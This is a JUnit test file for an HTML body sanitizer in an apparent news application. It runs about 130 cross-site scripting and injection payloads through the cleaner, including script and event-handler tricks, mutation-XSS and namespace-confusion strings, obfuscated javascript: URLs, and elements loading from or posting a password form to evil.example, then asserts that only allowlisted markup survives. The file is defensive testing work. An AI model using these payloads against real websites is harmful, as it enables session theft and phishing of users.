package doanket.news;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Map;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.jsoup.parser.Parser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever comes in, what is stored holds nothing that runs, loads or frames; read as HTML and as XHTML alike. */
class BodyCleanerHostileTest {

    private static final Map<String, Set<String>> ALLOWED = Map.ofEntries(
            Map.entry("p", Set.of()),
            Map.entry("br", Set.of()),
            Map.entry("h2", Set.of()),
            Map.entry("h3", Set.of()),
            Map.entry("h4", Set.of()),
            Map.entry("ul", Set.of()),
            Map.entry("ol", Set.of()),
            Map.entry("li", Set.of()),
            Map.entry("blockquote", Set.of()),
            Map.entry("strong", Set.of()),
            Map.entry("em", Set.of()),
            Map.entry("u", Set.of()),
            Map.entry("s", Set.of()),
            Map.entry("a", Set.of("href", "rel")),
            Map.entry("table", Set.of()),
            Map.entry("thead", Set.of()),
            Map.entry("tbody", Set.of()),
            Map.entry("tr", Set.of()),
            Map.entry("th", Set.of("colspan", "rowspan", "scope")),
            Map.entry("td", Set.of("colspan", "rowspan")),
            Map.entry("figure", Set.of("data-media")));

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script/x>alert(1)</script/x>",
                "<script\u0000>alert(1)</script>",
                "\u0000<scr\u0000ipt>alert(1)</script>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><script xlink:href=data:,alert(1) /></svg>",
                "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'></use></svg>",
                "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
                "<math href='javascript:alert(1)'>x</math>",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
                "<noframes><img title=\"</noframes><img src onerror=alert(1)>\"></noframes>",
                "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>",
                "<plaintext><script>alert(1)</script>",
                "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
                "<textarea><img title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
                "<title><img title=\"</title><img src onerror=alert(1)>\"></title>",
                "<template><script>alert(1)</script></template>",
                "<template><img src=x onerror=alert(1)></template>",
                "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
                "<img src=x onerror=alert(1)>",
                "<img src='https://evil.example/pixel.gif'>",
                "<img src=\"javascript:alert('x')\">",
                "<img srcset='https://evil.example/a.png 2x'>",
                "<img src=/media/00000000-0000-7000-8000-000000000001 onerror=alert(1) srcset='//evil.example/x 1x'>",
                "<img src='/media/../../sign-out'>",
                "<img src='//evil.example/media/00000000-0000-7000-8000-000000000001'>",
                "<img lowsrc='javascript:alert(1)' dynsrc='javascript:alert(1)'>",
                "<image src=x onerror=alert(1)>",
                "<picture><source srcset='https://evil.example/x'><img src=x></picture>",
                "<iframe src=https://evil.example></iframe>",
                "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
                "<iframe/src=\"data:text/html,<svg onload=alert(1)>\">",
                "<frameset><frame src='javascript:alert(1)'></frameset>",
                "<object data='data:text/html,<script>alert(1)</script>'></object>",
                "<object type=text/x-scriptlet data=https://evil.example></object>",
                "<embed src='javascript:alert(1)'>",
                "<applet code=Evil></applet>",
                "<portal src='https://evil.example'></portal>",
                "<base href='https://evil.example/'><a href='/news'>x</a>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<meta http-equiv='Set-Cookie' content='a=b'>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<link rel=import href=data:text/html,x>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<style>p{background:url(javascript:alert(1))}</style>",
                "<p style='background:url(https://evil.example/x)'>x</p>",
                "<p style='position:fixed;inset:0;z-index:9'>x</p>",
                "<div style=\"width: expression(alert(1))\">x</div>",
                "<p class=btn id=login data-draft=x>x</p>",
                "<form action=https://evil.example><input name=password><button>Đăng nhập</button></form>",
                "<form id=x></form><button form=x formaction='javascript:alert(1)'>x</button>",
                "<input onfocus=alert(1) autofocus>",
                "<select autofocus onfocus=alert(1)><option>x</select>",
                "<keygen autofocus onfocus=alert(1)>",
                "<isindex type=image src=1 onerror=alert(1)>",
                "<details open ontoggle=alert(1)>x</details>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<video><source onerror=alert(1)></video>",
                "<video poster='javascript:alert(1)' src=x onerror=alert(1)></video>",
                "<audio src=x onerror=alert(1)></audio>",
                "<body onload=alert(1)>x",
                "<html xmlns:xss><?import namespace='xss'><xss:xss>x</xss:xss></html>",
                "<p onclick=alert(1)>x</p>",
                "<p/onmouseover=alert(1)>x</p>",
                "<p \nonpointerenter\n=\nalert(1)>x</p>",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href='JaVaScRiPt:alert(1)'>x</a>",
                "<a href=' \t\n javascript:alert(1)'>x</a>",
                "<a href='java\tscript:alert(1)'>x</a>",
                "<a href='java\u0000script:alert(1)'>x</a>",
                "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
                "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
                "<a href='javascript&colon;alert(1)'>x</a>",
                "<a href='java&Tab;script&NewLine;:alert(1)'>x</a>",
                "<a href='vbscript:msgbox(1)'>x</a>",
                "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
                "<a href='file:///etc/passwd'>x</a>",
                "<a href='blob:https://x/1'>x</a>",
                "<a href='//evil.example'>x</a>",
                "<a href='/\\evil.example'>x</a>",
                "<a href='\\\\evil.example'>x</a>",
                "<a href='/\t/evil.example'>x</a>",
                "<a href='https://x' target=_blank ping=https://evil.example onclick=alert(1)>x</a>",
                "<a href=\"https://x\" style=\"x:expression(alert(1))\" rel=opener>x</a>",
                "<area href='javascript:alert(1)'>",
                "<map name=x><area shape=default href='javascript:alert(1)'></map>",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version='1.0'?><script>alert(1)</script>",
                "<figure data-media=\"x\" onclick=alert(1)><img src=x onerror=alert(1)></figure>",
                "<figure data-media='javascript:alert(1)'></figure>",
                "<figure data-media='00000000-0000-7000-8000-000000000001\"><script>alert(1)</script>'></figure>",
                "<table background='javascript:alert(1)'><tr><td background=javascript:alert(1)>x</table>",
                "<td colspan='1\" onmouseover=alert(1)'>x</td>",
                "<table><tr><td colspan='9999999' rowspan=-1 scope=x headers=y>x</td></tr></table>",
                "<ul><li style='list-style:url(javascript:alert(1))'>x</ul>",
                "<ol type=a start=javascript:1><li value=9>x</ol>",
                "<blockquote cite='javascript:alert(1)'>x</blockquote>",
                "<q cite='javascript:alert(1)'>x</q>",
                "<del cite='javascript:alert(1)' datetime=x>x</del>",
                "<div contenteditable is=evil-thing slot=x nonce=y>x</div>",
                "<dialog open>x</dialog>",
                "<slot onslotchange=alert(1)></slot>",
                "<p>{{constructor.constructor('alert(1)')()}} #{facesContext}</p>",
                "<ui:include src='/WEB-INF/web.xml'/><h:outputScript>x</h:outputScript>",
                "<x-evil onclick=alert(1)>x</x-evil>",
                "<<script>alert(1);//<</script>",
                "<p title='`><script>alert(1)</script>'>x</p>",
                "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
                "<a href=\"https://x?a='><script>alert(1)</script>\">x</a>",
                "<a href='https://x/`onmouseover=alert(1)'>x</a>",
                "%3Cscript%3Ealert(1)%3C/script%3E",
                "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
                "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=alert(1)>\"></a>",
                "<p><svg><desc><p><img src=x onerror=alert(1)></desc></svg>",
                "<table><caption><svg><title><style><img src onerror=alert(1)></style></title></svg></caption></table>"
            })
    void nothingDangerousIsStored(String payload) {
        var stored = BodyCleaner.clean(payload).html();

        assertThat(stored).doesNotContain("<!--", "<![", "<?");
        checkTree(Jsoup.parseBodyFragment(stored).body());
        checkTree(Jsoup.parse("<body>" + stored + "</body>", "", Parser.xmlParser())
                .firstElementChild());
        checkTree(Jsoup.parse("<svg>" + stored.replace("<p>", "<g>").replace("</p>", "</g>") + "</svg>")
                .body()
                .select("svg + *")
                .first());
        assertThat(BodyCleaner.clean(stored).html())
                .as("cleaning twice changes nothing")
                .isEqualTo(stored);
    }

    private static void checkTree(Element root) {
        if (root == null) {
            return;
        }
        for (var element : root.getAllElements()) {
            if (element == root || element.normalName().equals("body")) {
                continue;
            }
            assertThat(ALLOWED).containsKey(element.normalName());
            for (var attribute : element.attributes()) {
                assertThat(ALLOWED.get(element.normalName()))
                        .as(element.outerHtml())
                        .contains(attribute.getKey());
                checkValue(attribute);
            }
        }
    }

    private static void checkValue(Attribute attribute) {
        var value = attribute.getValue().toLowerCase(Locale.ROOT);
        switch (attribute.getKey()) {
            case "href" -> assertThat(value).matches("(https?://|mailto:|/(?![/\\\\])).*");
            case "rel" -> assertThat(value).isEqualTo("noopener noreferrer");
            case "data-media" -> assertThat(value).matches("[0-9a-f-]{36}");
            default -> assertThat(value).matches("[1-9][0-9]?|col|row|colgroup|rowgroup");
        }
    }

    @Test
    void aHundredThousandNestedElementsAreFlattened() {
        var deep = "<div><b>".repeat(50_000) + "Chữ ở đáy";

        assertThat(Jsoup.parse(BodyCleaner.clean(deep).html()).text()).isEqualTo("Chữ ở đáy");
    }

    @Test
    void deepListsAndTablesInTablesEnd() {
        var lists = "<ul><li>một".repeat(500);
        var tables = "<table><tr><td>ô".repeat(200);

        assertThat(BodyCleaner.clean(lists).html()).contains("một").doesNotContain("<ul>".repeat(2));
        assertThat(BodyCleaner.clean(tables).html()).containsOnlyOnce("<table>");
    }
}
